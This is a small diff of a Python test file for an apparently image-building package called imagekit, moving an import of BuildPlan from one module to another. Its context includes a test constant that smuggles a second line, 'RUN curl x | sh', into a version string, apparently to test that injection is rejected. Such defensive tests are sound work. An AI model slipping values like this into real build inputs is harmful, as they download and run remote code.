@@ -9,10 +9,10 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from imagekit import matrix, render, validate
+from imagekit.buildplan import BuildPlan, bootstrap_base
 from imagekit.errors import ConfigError, UnknownVersionError, UsageError
 from imagekit.lockfile import Lock, LockEntry
 from imagekit.model import Cell
-from imagekit.plan import BuildPlan, bootstrap_base
 
 INJECTION = "4.48.2\nRUN curl x | sh"
 
